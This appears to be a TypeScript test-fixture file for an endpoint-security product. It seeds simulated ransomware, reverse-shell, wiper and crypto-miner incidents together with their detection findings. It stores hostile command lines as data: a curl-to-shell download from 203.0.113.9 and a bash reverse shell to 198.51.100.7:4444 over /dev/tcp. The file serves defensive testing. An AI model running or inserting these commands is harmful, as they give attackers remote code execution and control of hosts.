// Attacks that tests and a developer's eyes look at: a ransomware in a container that was undone, a reverse shell that still runs,
// a wiper that cost two files, and a tree of two thousand processes.
import { finding } from '@norn/contracts';
import { CommandRecord, Host, ensureTenant } from '@norn/store';
import { AttackBuilder, type BuiltContainer, type BuiltProcess, idOf } from './attack-builder.ts';
import {
  type Databases,
  type FindingFacts,
  type Home,
  storeAlert,
  storeContainer,
  storeTelemetry,
} from './store-attack.ts';

export const webContainer: BuiltContainer = { id: idOf('container web-1', 64), name: 'web-1', image: 'shop/web:1.4' };

const ms = 1000;
const reflex = (facts: Omit<FindingFacts, 'reflex' | 'severity'> & Partial<FindingFacts>): FindingFacts => ({
  reflex: true,
  severity: finding.Severity.CRITICAL,
  ...facts,
});

export async function seedTenant(databases: Databases, tenantId: string): Promise<void> {
  await databases.control.transaction((manager) => ensureTenant(manager, tenantId));
}

interface HostFacts {
  readonly name: string;
  readonly lastSeenMsAgo?: number;
  readonly weak?: boolean;
}

export async function seedHost(
  { control }: Databases,
  tenantId: string,
  { name, lastSeenMsAgo = 0, weak = false }: HostFacts,
): Promise<Home> {
  const hostId = `host-${idOf(`${tenantId} ${name}`, 16)}`;
  const capability = (of: string, mechanism: string, detail = '', available = true): object => ({
    name: of,
    available,
    mechanism,
    detail,
    verified: available,
  });
  await control.manager.save(Host, {
    id: hostId,
    tenantId,
    name,
    machineId: idOf(name),
    revokedBefore: null,
    lastSeenAt: new Date(Date.now() - lastSeenMsAgo),
    facts: {
      hostname: name,
      os: 'Debian GNU/Linux 12',
      kernel: '6.18.5',
      agentVersion: '0.1.0',
      containers: [
        {
          containerId: webContainer.id,
          name: webContainer.name,
          image: webContainer.image,
          runtime: 'docker',
          startedAtUs: String((Date.now() - 9 * 3_600_000) * ms),
        },
      ],
      capabilities: [
        capability('process.lifecycle', 'tp_btf'),
        capability('file.change', 'tracepoint'),
        weak
          ? capability(
              'file.preimage.container',
              '',
              'fanotify permission events are not compiled into this kernel',
              false,
            )
          : capability(
              'file.preimage.container',
              'fanotify',
              'The mark on the root file system covers containers that start later',
            ),
        capability('file.preimage.host', 'fanotify', 'Protects /home, /srv and /var/www'),
        capability('network.connection', 'cgroup'),
        capability('response.kill', 'pidfd'),
        capability('response.kill-at-exec', 'bpf_send_signal'),
        capability('file.deny', '', 'BPF LSM can not be loaded here (EPERM)', false),
      ],
      health: {
        baldurRssBytes: '29360128',
        tyrRssBytes: '71303168',
        eventsTotal: '48210733',
        eventsLost: '0',
        vaultBytes: '188743680',
        vaultFiles: '12404',
      },
    },
  });
  return { tenantId, hostId };
}

export async function seedRansomware(databases: Databases, home: Home, nowUs = Date.now() * ms): Promise<string> {
  const attack = new AttackBuilder(`ransomware ${home.tenantId}`);
  const t0 = nowUs - 130_000 * ms;
  const stopped = t0 + 38 * ms;
  const origin = containerStart(attack, nowUs - 9 * 3_600_000 * ms);
  const gunicorn = attack.process(origin, 4020, origin.startUs + 700 * ms, ['gunicorn -w 2 shop:app'], {
    namespacePid: 7,
    userId: 33,
    userName: 'www-data',
  });
  attack.process(gunicorn, 4023, gunicorn.startUs + 20 * ms, ['gunicorn -w 2 shop:app'], { namespacePid: 9 });
  const worker = attack.process(gunicorn, 4024, gunicorn.startUs + 22 * ms, ['gunicorn -w 2 shop:app'], {
    namespacePid: 10,
  });
  const killed = { endUs: stopped, exitStatus: 9 };
  const dropper = attack.process(worker, 4118, t0 - 900 * ms, ['/bin/sh -c curl -s http://203.0.113.9/x|sh'], {
    namespacePid: 34,
    ...killed,
  });
  const curl = attack.process(dropper, 4119, t0 - 890 * ms, ['curl -s http://203.0.113.9/x'], {
    namespacePid: 35,
    endUs: t0 - 120 * ms,
  });
  const shell = attack.process(dropper, 4120, t0 - 888 * ms, ['sh'], { namespacePid: 36, ...killed });
  const python = attack.process(shell, 4121, t0 - 50 * ms, ['sh', 'python3 /tmp/x.py /srv/data'], {
    namespacePid: 37,
    ...killed,
  });
  attack.event(curl, 20, t0 - 870 * ms, '203.0.113.9', { value: 80 * 65_536 + 41_822 });
  const names = [
    'orders.csv',
    'customers.db',
    'invoices/2026-10.pdf',
    'invoices/2026-11.pdf',
    'products.json',
    'uploads/logo.svg',
    'sessions.sqlite',
  ];
  names.forEach((name, index) => {
    attack.file(python, t0 + (2 + index * 5) * ms, `/srv/data/${name}`, 'restored', {
      change: index % 3 === 2 ? 'replaced' : 'in-place',
    });
  });
  attack.file(python, t0 + 36 * ms, '/srv/data/READ_ME_TO_DECRYPT.txt', 'removed', { size: 612 });
  await storeContainer(databases, home, webContainer, origin.startUs);
  await storeTelemetry(databases, home, attack, origin);
  const id = await storeAlert(databases, home, attack, {
    title: 'Ransomware',
    summary: 'python3 encrypted 7 files in 38 ms',
    severity: finding.Severity.CRITICAL,
    state: 'remediated',
    scope: dropper,
    origin,
    firstActUs: t0,
    stoppedUs: stopped,
    killed: [dropper, shell, python],
    atUs: stopped + 4 * ms,
    findings: ransomwareFindings({ python, curl, dropper }, t0),
  });
  await storeCommand(databases, home, { alertId: id, attack: attack.name, atUs: stopped + 40 * ms });
  return id;
}

function ransomwareFindings(
  { python, curl, dropper }: Record<'python' | 'curl' | 'dropper', BuiltProcess>,
  t0: number,
): FindingFacts[] {
  return [
    reflex({
      process: python,
      rule: 'reflex.ransomware',
      title: 'Ransomware',
      summary: 'the content of 7 files lost its type, entropy rose from 4.1 to 8.0 bits a byte, and a note was left',
      techniques: ['T1486'],
      us: t0 + 37 * ms,
      evidence: {
        'file.changed': '7',
        'entropy.before': '4.1',
        'entropy.after': '8.0',
        'type.lost': '7 of 7',
        'note.path': '/srv/data/READ_ME_TO_DECRYPT.txt',
      },
    }),
    reflex({
      process: curl,
      reflex: false,
      severity: finding.Severity.MEDIUM,
      rule: 'norn.download-to-shell',
      title: 'A download was piped into a shell',
      summary: 'curl ran below a shell that runs what it reads',
      techniques: ['T1105', 'T1059.004'],
      us: t0 - 880 * ms,
      evidence: {
        CommandLine: 'curl -s http://203.0.113.9/x',
        ParentCommandLine: dropper.images[0]?.commandLine ?? '',
      },
    }),
  ];
}

function containerStart(attack: AttackBuilder, startUs: number): BuiltProcess {
  const systemd = attack.process(undefined, 1, startUs - 86_400_000 * ms, ['systemd --system']);
  const containerd = attack.process(systemd, 820, systemd.startUs + 9000 * ms, ['containerd']);
  const shim = attack.process(containerd, 4002, startUs - 40 * ms, [
    `containerd-shim-runc-v2 -namespace moby -id ${webContainer.id}`,
  ]);
  return attack.process(shim, 4011, startUs, ['/bin/sh -c ./entrypoint.sh'], {
    namespacePid: 1,
    container: webContainer,
  });
}

export async function storeCommand(
  { control }: Databases,
  home: Home,
  { alertId, attack, atUs }: { alertId: string; attack: string; atUs: number },
): Promise<void> {
  await control.manager.save(CommandRecord, {
    id: idOf(`${attack} restore`),
    ...home,
    alertId,
    action: 'restore',
    state: 'succeeded',
    code: 'ok',
    message: '7 files restored, 1 removed',
    requestedBy: 'policy',
    epoch: '1',
    signed: Buffer.alloc(0),
    expiresAt: new Date(atUs / ms + 120_000),
    retryAt: new Date(atUs / ms + 5_000),
    requestedAt: new Date(atUs / ms),
    finishedAt: new Date(atUs / ms + 160),
  });
}

/** A reverse shell on the host itself that nobody stopped. */
export async function seedReverseShell(databases: Databases, home: Home, nowUs = Date.now() * ms): Promise<string> {
  const attack = new AttackBuilder(`reverse-shell ${home.tenantId}`);
  const t0 = nowUs - 40_000 * ms;
  const systemd = attack.process(undefined, 1, t0 - 86_400_000 * ms, ['systemd --system']);
  const sshd = attack.process(systemd, 901, t0 - 900_000 * ms, ['/usr/sbin/sshd -D']);
  const login = attack.process(sshd, 7001, t0 - 60_000 * ms, ['/usr/sbin/sshd -D', '-bash'], {
    userId: 1000,
    userName: 'deploy',
  });
  const bash = attack.process(login, 7040, t0, ['bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'bash -i']);
  const id = attack.process(bash, 7041, t0 + 1500 * ms, ['id'], { endUs: t0 + 1504 * ms });
  const find = attack.process(bash, 7044, t0 + 3000 * ms, ['find / -perm -4000']);
  attack.event(bash, 20, t0 + 4 * ms, '198.51.100.7', { value: 4444 * 65_536 + 50_112 });
  attack.event(bash, 36, t0 + 5 * ms, '198.51.100.7', { value: 4444 * 65_536 + 50_112 });
  attack.event(id, 10, t0 + 1502 * ms, '/tmp/.who', { flags: 0o101 });
  attack.event(find, 10, t0 + 3050 * ms, '/tmp/.suid', { flags: 0o101 });
  await storeTelemetry(databases, home, attack, login);
  return storeAlert(databases, home, attack, {
    title: 'Reverse shell',
    summary: 'bash joined its standard input and output to 198.51.100.7:4444 and runs commands from there',
    severity: finding.Severity.HIGH,
    state: 'open',
    scope: bash,
    origin: login,
    firstActUs: t0,
    atUs: t0 + 8 * ms,
    findings: [
      reflex({
        process: bash,
        rule: 'reflex.reverse-shell',
        title: 'Reverse shell',
        summary: 'an interactive shell speaks to a socket',
        severity: finding.Severity.HIGH,
        techniques: ['T1059.004', 'T1071'],
        us: t0 + 6 * ms,
        evidence: { 'socket.remote': '198.51.100.7:4444', 'fd.joined': '0, 1, 2', image: '/usr/bin/bash' },
      }),
    ],
  });
}

/** A wiper in the container that cost two files. */
export async function seedWiper(databases: Databases, home: Home, nowUs = Date.now() * ms): Promise<string> {
  const attack = new AttackBuilder(`wiper ${home.tenantId}`);
  const t0 = nowUs - 5 * 3_600_000 * ms;
  const origin = containerStart(attack, nowUs - 9 * 3_600_000 * ms);
  const wiper = attack.process(origin, 5200, t0, ['sh', '/tmp/.w -r /var/lib/app'], {
    namespacePid: 88,
    endUs: t0 + 210 * ms,
    exitStatus: 9,
  });
  for (let index = 0; index < 180; index += 1) {
    const path = `/var/lib/app/blobs/${idOf(`blob ${index}`, 2)}/${idOf(`blob ${index}`, 24)}.bin`;
    attack.file(wiper, t0 + index * ms, path, 'restored', { change: 'unlinked' });
  }
  attack.file(wiper, t0 + 190 * ms, '/var/lib/app/index.wal', 'lost', {
    change: 'in-place',
    reason: 'It was written and truncated within 2 ms of its birth, before its state could be kept',
  });
  attack.file(wiper, t0 + 191 * ms, '/var/lib/app/cache/huge.img', 'lost', {
    change: 'unlinked',
    size: 6_442_450_944,
    reason: 'Larger than the vault keeps (4 GiB)',
  });
  attack.file(wiper, t0 + 192 * ms, '/var/lib/app/config.yaml', 'conflict', {
    reason: 'Changed at 14:09 by vi (5301), which the alert does not blame',
  });
  attack.file(wiper, t0 + 193 * ms, '/var/lib/app/LOCK', 'unchanged');
  await storeTelemetry(databases, home, attack, origin);
  return storeAlert(databases, home, attack, {
    title: 'Wiper',
    summary: '.w deleted 183 files in 210 ms',
    severity: finding.Severity.CRITICAL,
    state: 'remediated',
    scope: wiper,
    origin,
    firstActUs: t0,
    stoppedUs: t0 + 210 * ms,
    killed: [wiper],
    atUs: t0 + 214 * ms,
    findings: [
      reflex({
        process: wiper,
        rule: 'reflex.wiper',
        title: 'Wiper',
        summary: '183 files were deleted that it had not made',
        techniques: ['T1485'],
        us: t0 + 205 * ms,
        evidence: { 'file.changed': '183', 'file.foreign': '183' },
      }),
    ],
  });
}

/** An attack of `size` processes, as from a fork tree. */
export async function seedForkTree(
  databases: Databases,
  home: Home,
  size: number,
  nowUs = Date.now() * ms,
): Promise<string> {
  const attack = new AttackBuilder(`fork-tree ${home.tenantId}`);
  const t0 = nowUs - 2 * 3_600_000 * ms;
  const origin = containerStart(attack, nowUs - 9 * 3_600_000 * ms);
  const all = [attack.process(origin, 10_000, t0, ['sh', '/tmp/miner.sh'], { namespacePid: 200 })];
  for (let index = 1; index < size; index += 1) {
    const parent = all[Math.floor((index - 1) / 4)];
    all.push(
      attack.process(
        parent,
        10_000 + index,
        t0 + index * ms,
        [index % 3 === 0 ? `xmrig --threads ${index % 8}` : `sh -c work ${index}`],
        { namespacePid: 200 + index, endUs: t0 + (index + 50) * ms },
      ),
    );
  }
  const root = all[0] ?? origin;
  await storeTelemetry(databases, home, attack, origin);
  return storeAlert(databases, home, attack, {
    title: 'Crypto miner',
    summary: `xmrig spends ${size} processes on hashing`,
    severity: finding.Severity.MEDIUM,
    state: 'open',
    scope: root,
    origin,
    firstActUs: t0,
    atUs: t0 + size * ms,
    findings: [
      reflex({
        process: all[3] ?? root,
        rule: 'reflex.miner',
        title: 'Crypto miner',
        summary: 'sampled instructions are those of RandomX',
        severity: finding.Severity.MEDIUM,
        techniques: ['T1496'],
        us: t0 + 900 * ms,
        evidence: { 'instructions.aes': '61 %', samples: '240' },
      }),
    ],
  });
}
